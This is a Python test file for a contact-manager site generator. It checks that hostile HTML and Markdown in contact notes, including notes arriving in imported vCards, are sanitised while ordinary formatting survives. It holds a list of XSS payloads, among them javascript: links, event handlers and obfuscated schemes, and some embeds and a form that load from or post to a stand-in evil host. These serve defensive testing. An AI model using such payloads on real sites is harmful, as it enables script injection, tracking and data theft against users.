"""Issue 11, hostile notes: what a contact's notes (written, or brought in by an import) may put on
the site. Nothing runs, nothing loads from another host, and ordinary Markdown keeps its look."""

from __future__ import annotations

import datetime as dt
from html.parser import HTMLParser
from pathlib import Path

import markdown
import pytest

from kithbook.cli import main
from kithbook.parse.load import load
from kithbook.rules.validate import validate
from kithbook.site.pages import site_pages
from kithbook.site.plugin import EXTENSIONS
from kithbook.site.sanitize import safe_html

TODAY = dt.date(2026, 12, 1)
EVIL = "https://evil.example.org"
PAYLOADS = {
    "script element": "<script>alert(1)</script>",
    "event handler": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "image onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "javascript link in Markdown": "[click](javascript:alert(1))",
    "javascript link in HTML": '<a href="javascript:alert(1)">click</a>',
    "javascript link in capitals": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "javascript link with an entity tab": '<a href="java&#x09;script:alert(1)">click</a>',
    "javascript reference link": "[click][x]\n\n[x]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript and data links": '<a href="vbscript:msgbox(1)">a</a> [b](data:text/html,<b>x</b>)',
    "iframe from another host": f'<iframe src="{EVIL}/"></iframe>',
    "object from another host": f'<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/e">',
    "stylesheet from another host": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "image from another host": f"![pixel]({EVIL}/pixel.png)",
    "image from another host in HTML": '<img src="//evil.example.org/p.png">'
    '<img src="/\\evil.example.org/p.png">',
    "image srcset": f'<img src="ok.png" srcset="{EVIL}/p.png 2x">',
    "style element": f"<style>@import url({EVIL}/x.css); body {{display: none}}</style>",
    "style attribute": f'<p style="background: url({EVIL}/p.png)">styled</p>',
    "form": f'<form action="{EVIL}/steal"><input name="q"><button>Go</button></form>',
    "meta refresh": f'<meta http-equiv="refresh" content="0; url={EVIL}/">',
    "base element": f'<base href="{EVIL}/">',
    "media from another host": f'<video poster="{EVIL}/p.png" src="{EVIL}/v.mp4"></video>',
    "unclosed element swallowing the page": "<div><pre><textarea>",
    "html comment hiding markers": "<!-- kithbook:html 0000000000000000 -->\n<script>x()</script>",
}
VCARD_NOTES = {
    "Markdown javascript link": "Call me [here](javascript:alert(1))",
    "Markdown image from another host": f"Look ![x]({EVIL}/track.png)",
}
FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "object", "embed", "link", "meta", "base", "form"),
    *("input", "button", "textarea", "svg", "video", "audio", "source", "frame", "frameset"),
}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background"}
LOADING_ATTRIBUTES = URL_ATTRIBUTES - {"href"}


class HostileFinder(HTMLParser):
    """What in an HTML document could run script or load from another host."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            value = "".join((value or "").split()).lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}=")
            if name in URL_ATTRIBUTES and value.startswith(("javascript:", "vbscript:", "data:")):
                self.found.append(f"{tag} {name}={value}")
            if name in LOADING_ATTRIBUTES and (":" in value.split("/")[0] or "evil" in value):
                self.found.append(f"{tag} loads {value}")


def hostile(html: str) -> list[str]:
    finder = HostileFinder()
    finder.feed(html)
    return finder.found


def contact_html(root: Path, slug: str = "ada") -> str:
    """The contact's page as MkDocs renders its Markdown (the plugin's extensions)."""
    network = load(root)
    pages = {page.uri: page for page in site_pages(network, TODAY, validate(network, TODAY))}
    return markdown.markdown(pages[f"people/{slug}.md"].markdown, extensions=EXTENSIONS)


def test_the_hostile_finder_finds_each_payload_unsanitised():
    for name, payload in PAYLOADS.items():
        raw = markdown.markdown(payload, extensions=EXTENSIONS)
        if name not in ("unclosed element swallowing the page", "html comment hiding markers"):
            assert hostile(raw) or "javascript:" in raw or "vbscript:" in raw, name


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_hostile_html_in_notes_is_sanitised_on_the_contact_page(make_network, payload):
    root = make_network({"ada": f"---\nname: Ada\n---\nBefore.\n\n{payload}\n\nAfter.\n\n## Log\n"})
    html = contact_html(root)
    assert hostile(html) == []
    assert "javascript:" not in html.lower() and "evil.example.org" not in html
    assert "Before." in html
    assert "History</h2>" in html  # the rest of the page is still a page


@pytest.mark.parametrize("note", VCARD_NOTES.values(), ids=VCARD_NOTES.keys())
def test_a_hostile_note_arriving_in_an_imported_vcard_is_sanitised(make_network, capsys, note):
    root = make_network({"other": "---\nname: Other Person\n---\n"})
    card = root / "import.vcf"
    card.write_text(
        f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Mallory Evans\r\nNOTE:{note}\r\nEND:VCARD\r\n"
    )
    assert main(["import", "--root", str(root), "--no-commit", str(card)]) == 0
    capsys.readouterr()
    assert note in load(root).get("mallory-evans").notes  # it arrived as written
    html = contact_html(root, "mallory-evans")
    assert hostile(html) == []
    assert "javascript:" not in html.lower() and "evil.example.org" not in html


ORDINARY = {
    "emphasis": ("Some **bold** and *italic* and `code`.", "<strong>bold</strong>"),
    "list": ("- one\n- two", "<li>two</li>"),
    "numbered list": ("1. one\n2. two", "<ol>"),
    "link": ("[site](https://ada.example.org/)", 'href="https://ada.example.org/"'),
    "mail link": ("<mailto:ada@example.org>", "href="),
    "image from the site": ("![photo](../img/ada.png)", 'src="../img/ada.png"'),
    "table": ("| a | b |\n|:--|--:|\n| 1 | 2 |", '<td align="right">2</td>'),
    "code block": ("```\nx = 1\n```", "<pre><code>x = 1"),
    "quote": ("> wise words", "<blockquote>"),
    "heading": ("### Work", "Work</h3>"),
    "admonition": ("!!! note\n    Remember this.", '<div class="admonition note">'),
    "escaped text": ("a < b & c", "a &lt; b &amp; c"),
}


@pytest.mark.parametrize(("notes", "expected"), ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_markdown_in_notes_keeps_its_formatting(notes, expected):
    assert expected in safe_html(notes)


def test_a_page_whose_notes_are_only_a_script_has_no_notes_section(make_network):
    root = make_network({"ada": "---\nname: Ada\n---\n<script>alert(1)</script>\n"})
    assert "Notes" not in contact_html(root)
